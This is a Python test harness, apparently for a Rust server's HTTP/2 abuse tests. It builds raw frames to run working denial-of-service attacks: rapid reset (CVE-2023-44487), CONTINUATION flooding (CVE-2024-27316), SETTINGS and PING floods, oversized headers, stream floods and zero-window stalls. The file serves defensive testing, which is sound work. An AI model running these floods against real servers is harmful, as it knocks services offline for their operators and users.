#!/usr/bin/python3
"""Hostile HTTP/2 clients for tests/h2_abuse.rs: raw frames over TLS (ALPN h2).

Frames are built with hyperframe and header blocks with hpack (python3-h2's own layers),
written straight to the connection: h2's state machine would refuse to misbehave. One
attack per run; it prints one JSON object on stdout and exits 0 (a refused attack is a
result, not an error):

    h2_frames.py ATTACK HOST PORT [--authority NAME] [--path P] [--count N] [--seconds S]

ATTACK is one of:
  get             one GET (the "other client"): `statuses` has its status, `data_bytes`
                  its body length
  rapid-reset     HEADERS + RST_STREAM(CANCEL) pairs on new streams (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames (CVE-2024-27316)
  big-headers     one request whose header list is about --count KiB (default 40)
  streams         --count requests (default 20) opened at once, each answered or refused
  settings-flood  SETTINGS frames, the ACKs not read while flooding; after a stall, none
                  read for up to --hold seconds more (until the server ends the connection)
  ping-flood      PING frames, the same way
  after-goaway    a GET of --path (held open by the backend), then a GET of / every 0.25 s
                  for --seconds; the GOAWAY's PING is never acknowledged
  zero-window     SETTINGS_INITIAL_WINDOW_SIZE 0, then a GET of --path; never opens the
                  stream's window, waits up to --seconds for the server to end the stream

The JSON: attack; sent (frames of the attack the socket took, pairs for rapid-reset;
floods stop at a GOAWAY, the close, a stall, --count or --seconds); goaway (null or
{code, last_stream_id}); resets ({code name: count} of RST_STREAM received) and
reset_streams (their stream ids); statuses
({stream id: :status}); data_bytes (DATA payload received); acks (SETTINGS or PING ACKs
received); closed (the server ended the connection); stalled (writes stopped being taken
for a second: the server stopped reading); held (floods with --hold: seconds spent not
reading after the stall before the server ended the connection, or --hold); end (how the
connection ended, if it did: "reset" (a TCP reset, seen by a read or write or in the TCP
state), "fin" (the server's close), "error"); seconds (time the attack ran).

The client's socket buffers are small (16 KiB each way), so a server that stops reading is
seen as a stall after little data, and ACKs a server cannot send back up to the server.
Imports only the standard library, hyperframe and hpack.
"""

import argparse
import json
import select
import socket
import ssl
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# tcp_info.tcpi_state (Linux): open; closed (here: by the peer's RST); the peer's FIN received
TCP_ESTABLISHED, TCP_CLOSE, TCP_CLOSE_WAIT = 1, 7, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_CODES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}
SOCKET_BUFFER = 16 * 1024
# Ciphertext queued in this process before the attack waits for the socket to take it.
QUEUE_LIMIT = 16 * 1024
# No byte taken by the server for this long: it stopped reading.
STALL = 1.0


class Closed(Exception):
    """The server ended the connection."""


class Conn:
    """One TLS connection driven by hand: memory BIOs, non-blocking socket, one thread."""

    def __init__(self, host, port, authority):
        self.authority = authority
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SOCKET_BUFFER)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SOCKET_BUFFER)
        self.sock.connect((host, port))
        self.sock.setblocking(False)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self.incoming, self.outgoing, server_hostname=authority)
        self.queued = bytearray()  # ciphertext not yet taken by the socket
        self.plain = bytearray()  # plaintext received, not yet parsed into frames
        self.closed = False
        self.end = None  # how the connection ended, once it did: "reset", "fin", "error"
        self.last_taken = time.monotonic()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.result = {
            "goaway": None,
            "resets": {},
            "reset_streams": [],
            "statuses": {},
            "data_bytes": 0,
            "ended": set(),
            "acks": 0,
            "frames_received": 0,
        }
        self._handshake()

    def _handshake(self):
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._queue_tls()
                self._move(wait=1.0, reading=True)
                if self.closed:
                    raise SystemExit("connection closed during the TLS handshake")
        self._queue_tls()
        if self.tls.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not select h2 by ALPN")

    def _queue_tls(self):
        self.queued += self.outgoing.read()

    def _move(self, wait, reading):
        """Send what the socket takes; receive into the TLS layer when `reading`."""
        rlist = [self.sock] if reading and not self.closed else []
        wlist = [self.sock] if self.queued and not self.closed else []
        if not rlist and not wlist:
            return
        r, w, _ = select.select(rlist, wlist, [], wait)
        if w:
            try:
                n = self.sock.send(self.queued)
                del self.queued[:n]
                if n:
                    self.last_taken = time.monotonic()
            except BlockingIOError:
                pass
            except OSError as e:
                self.closed = True
                self.end = self.end or ("reset" if isinstance(e, ConnectionResetError) else "error")
        if r:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                data = None
            except OSError as e:
                data = b""
                self.end = self.end or ("reset" if isinstance(e, ConnectionResetError) else "error")
            if data == b"":
                self.closed = True
                self.end = self.end or "fin"
                self.incoming.write_eof()
            elif data:
                self.incoming.write(data)

    def write(self, frames):
        """Queue frames (bytes); raise Closed if the connection is gone."""
        if self.closed:
            raise Closed()
        self.tls.write(bytes(frames))
        self._queue_tls()

    def flush(self, reading, limit=QUEUE_LIMIT):
        """Move bytes until fewer than `limit` are queued; False if the server stopped
        taking them (a stall) or closed."""
        while self.queued and len(self.queued) >= max(limit, 1):
            if self.closed:
                return False
            self._move(wait=0.05, reading=reading)
            if reading:
                self.read_frames()
            if time.monotonic() - self.last_taken > STALL:
                return False
        if reading:
            self._move(wait=0, reading=True)
            self.read_frames()
        return not self.closed

    def read_frames(self):
        """Decrypt what arrived and handle whole frames."""
        while True:
            try:
                chunk = self.tls.read(65536)
            except ssl.SSLWantReadError:
                break
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError, ssl.SSLError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.plain += chunk
        while len(self.plain) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.plain[:9]))
            if len(self.plain) < 9 + length:
                break
            frame.parse_body(memoryview(bytes(self.plain[9 : 9 + length])))
            del self.plain[: 9 + length]
            self.on_frame(frame)

    def on_frame(self, frame):
        res = self.result
        res["frames_received"] += 1
        if isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                res["acks"] += 1
            else:
                self.tls.write(SettingsFrame(0, flags=["ACK"]).serialize())
                self._queue_tls()
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                res["acks"] += 1
        elif isinstance(frame, GoAwayFrame):
            res["goaway"] = {
                "code": ERROR_CODES.get(frame.error_code, str(frame.error_code)),
                "last_stream_id": frame.last_stream_id,
            }
        elif isinstance(frame, RstStreamFrame):
            name = ERROR_CODES.get(frame.error_code, str(frame.error_code))
            res["resets"][name] = res["resets"].get(name, 0) + 1
            res["reset_streams"].append(frame.stream_id)
        if "END_STREAM" in frame.flags:
            res["ended"].add(frame.stream_id)
        if isinstance(frame, (HeadersFrame, ContinuationFrame)):
            # Responses here fit one frame (no server sends CONTINUATION for them).
            try:
                fields = self.decoder.decode(frame.data)
            except hpack.HPACKError:
                return
            for name, value in fields:
                if name in (":status", b":status"):
                    status = value.decode() if isinstance(value, bytes) else value
                    res["statuses"][str(frame.stream_id)] = int(status)
        elif isinstance(frame, DataFrame):
            res["data_bytes"] += len(frame.data)
            # Keep the connection's window open for the normal cases; streams too, unless
            # the attack keeps them shut (zero-window sets this False).
            if frame.flow_controlled_length and self.open_windows:
                n = frame.flow_controlled_length
                self.tls.write(
                    WindowUpdateFrame(0, window_increment=n).serialize()
                    + WindowUpdateFrame(frame.stream_id, window_increment=n).serialize()
                )
                self._queue_tls()

    open_windows = True

    def start(self, settings=None):
        """Preface and our SETTINGS; then wait for the server's SETTINGS (and ACK it)."""
        self.write(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        deadline = time.monotonic() + 5
        while self.result["frames_received"] == 0 and time.monotonic() < deadline:
            self._move(wait=0.05, reading=True)
            self.read_frames()
            if self.closed:
                break

    def request_block(self, path, extra=()):
        fields = [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", self.authority),
            (":path", path),
        ] + list(extra)
        return self.encoder.encode(fields, huffman=False)

    def fixed_block(self, path):
        """A request's header block that leaves the server's HPACK table as it was (every
        field from the static table or never indexed), so one block serves any stream."""
        fields = [
            (":method", "GET", True),
            (":scheme", "https", True),
            (":authority", self.authority, True),
            (":path", path, True),
        ]
        return hpack.Encoder().encode(fields, huffman=False)

    def hold(self, until):
        """Read nothing until `until` or until the server ends the connection (the TCP state,
        from TCP_INFO, leaves ESTABLISHED: a reset or the server's FIN; looking reads no
        data, so the server's writes stay stalled). Returns the seconds held and how the
        connection ended ("reset", "fin"; None: it did not)."""
        began = time.monotonic()
        state = TCP_ESTABLISHED
        while time.monotonic() < until:
            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
            if state != TCP_ESTABLISHED:
                break
            time.sleep(0.05)
        how = {TCP_ESTABLISHED: None, TCP_CLOSE: "reset", TCP_CLOSE_WAIT: "fin"}.get(state, str(state))
        return round(time.monotonic() - began, 3), how

    def drain(self, until, done=lambda res: False):
        """Read (and send what is queued) until `until` (monotonic), the close, or `done`."""
        while time.monotonic() < until and not self.closed and not done(self.result):
            self._move(wait=min(0.05, max(0, until - time.monotonic())), reading=True)
            self.read_frames()
        self.read_frames()


def flood(conn, make, count, seconds, reading):
    """Write frames from `make(i)` (bytes of one or more frames) until `count` are written,
    `seconds` pass, the server stops taking them, closes, or says GOAWAY. Returns how many
    were written and whether writing stalled."""
    sent, stalled = 0, False
    end = time.monotonic() + seconds
    # Batches of about 4 KB, so `sent` is exact to a few frames.
    batch = max(1, 4096 // len(make(0)))
    while sent < count and time.monotonic() < end:
        if conn.result["goaway"] is not None or conn.closed:
            break
        chunk = bytearray()
        n = min(batch, count - sent)
        for i in range(sent, sent + n):
            chunk += make(i)
        try:
            conn.write(chunk)
        except Closed:
            break
        sent += n
        if not conn.flush(reading):
            stalled = not conn.closed
            break
    # What is still queued in this process was not taken by the server.
    return sent, stalled


def get(conn, a, out):
    conn.start()
    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    out["sent"] = 1
    conn.drain(time.monotonic() + a.seconds, lambda r: 1 in r["ended"] or 1 in r["reset_streams"])


def rapid_reset(conn, a, out):
    conn.start()
    block = conn.fixed_block(a.path)

    def pair(i):
        sid = 1 + 2 * i
        return (
            HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
            + RstStreamFrame(sid, error_code=0x8).serialize()
        )

    if not a.paced:
        out["sent"], out["stalled"] = flood(conn, pair, a.count or 100_000, a.seconds, reading=True)
        conn.drain(time.monotonic() + 2)
        return
    # Paced: each RST_STREAM a moment after its HEADERS, so the server has taken the
    # stream (and may have sent its request on) before the reset arrives.
    end = time.monotonic() + a.seconds
    sent = 0
    while sent < (a.count or 100_000) and time.monotonic() < end:
        if conn.result["goaway"] is not None or conn.closed:
            break
        sid = 1 + 2 * sent
        try:
            conn.write(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
            conn.flush(reading=True, limit=0)
            conn.drain(time.monotonic() + a.paced / 1000)
            conn.write(RstStreamFrame(sid, error_code=0x8).serialize())
        except Closed:
            break
        sent += 1
    out["sent"] = sent
    conn.drain(time.monotonic() + 2)


def continuation(conn, a, out):
    conn.start()
    # Each CONTINUATION carries four whole literal fields of 1 KB, never indexed (RFC 7541
    # 6.2.3: no table growth), so only the header list limit can stop them.
    block = b"".join(
        b"\x10" + bytes([len(n)]) + n + b"\x7f" + encode_int(len(v) - 127) + v
        for n, v in [(("x-flood-%d" % i).encode(), b"v" * 1000) for i in range(4)]
    )
    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=[]).serialize())
    one = ContinuationFrame(1, data=block).serialize()
    out["sent"], out["stalled"] = flood(conn, lambda i: one, a.count or 1_000_000, a.seconds, reading=True)
    out["bytes_per_frame"] = len(block)
    conn.drain(time.monotonic() + 2)


def big_headers(conn, a, out):
    conn.start()
    extra = [("x-big-%d" % i, "b" * 1000) for i in range(a.count or 40)]
    block = conn.request_block(a.path, extra)
    # Frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
    parts = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    frames = bytearray()
    for k, part in enumerate(parts):
        end = ["END_HEADERS"] if k == len(parts) - 1 else []
        if k == 0:
            frames += HeadersFrame(1, part, flags=["END_STREAM"] + end).serialize()
        else:
            frames += ContinuationFrame(1, part, flags=end).serialize()
    conn.write(frames)
    out["sent"] = len(parts)
    out["header_block_bytes"] = len(block)
    conn.drain(
        time.monotonic() + a.seconds,
        lambda r: "1" in r["statuses"] or 1 in r["reset_streams"] or r["goaway"] is not None,
    )
    conn.drain(time.monotonic() + 0.5)


def streams(conn, a, out):
    conn.start()
    count = a.count or 20
    block = conn.fixed_block(a.path)
    frames = bytearray()
    for i in range(count):
        frames += HeadersFrame(1 + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    conn.write(frames)
    out["sent"] = count

    conn.drain(time.monotonic() + a.seconds, lambda r: len(r["ended"] | set(r["reset_streams"])) >= count)


def ack_flood(one):
    """A flood of `one` frame over and over, its ACKs not read while flooding."""

    def run(conn, a, out):
        conn.start()
        out["sent"], out["stalled"] = flood(conn, lambda i: one, a.count or 1_000_000, a.seconds, reading=False)
        if out["stalled"] and a.hold:
            # Still not reading: does the server give up on the connection?
            out["held"], conn.end = conn.hold(time.monotonic() + a.hold)
        # Now read what came back (ACKs, a GOAWAY).
        conn.drain(time.monotonic() + 2)

    return run


def zero_window(conn, a, out):
    conn.open_windows = False
    conn.start(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    out["sent"] = 1
    conn.drain(time.monotonic() + a.seconds, lambda r: 1 in r["reset_streams"] or r["goaway"] is not None)


def after_goaway(conn, a, out):
    conn.start()
    conn.write(HeadersFrame(1, conn.request_block(a.path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    block = conn.fixed_block("/")
    stream = 3
    end = time.monotonic() + a.seconds
    while time.monotonic() < end and not conn.closed:
        try:
            conn.write(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        except Closed:
            break
        out["sent"] += 1
        stream += 2
        conn.drain(time.monotonic() + 0.25)


ATTACKS = {
    "after-goaway": after_goaway,
    "get": get,
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "big-headers": big_headers,
    "streams": streams,
    "settings-flood": ack_flood(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()),
    "ping-flood": ack_flood(PingFrame(0, opaque_data=b"12345678").serialize()),
    "zero-window": zero_window,
}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--authority", default="localhost")
    p.add_argument("--path", default="/")
    p.add_argument("--count", type=int, default=0)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--hold", type=float, default=0, help="floods: after a stall, seconds to keep not reading")
    p.add_argument("--paced", type=float, default=0, help="rapid-reset: ms between a HEADERS and its RST_STREAM")
    a = p.parse_args()
    began = time.monotonic()
    conn = Conn(a.host, a.port, a.authority)
    out = {"attack": a.attack, "sent": 0, "stalled": False}
    ATTACKS[a.attack](conn, a, out)
    res = conn.result
    out.update(
        {
            "goaway": res["goaway"],
            "resets": res["resets"],
            "reset_streams": res["reset_streams"],
            "statuses": res["statuses"],
            "data_bytes": res["data_bytes"],
            "acks": res["acks"],
            "closed": conn.closed,
            "end": conn.end if conn.end != "open" else None,
            "seconds": round(time.monotonic() - began, 3),
        }
    )
    print(json.dumps(out, sort_keys=True))


def encode_int(n):
    """HPACK integer continuation bytes for a value past a full prefix (RFC 7541 5.1)."""
    out = bytearray()
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    out.append(n)
    return bytes(out)


if __name__ == "__main__":
    main()
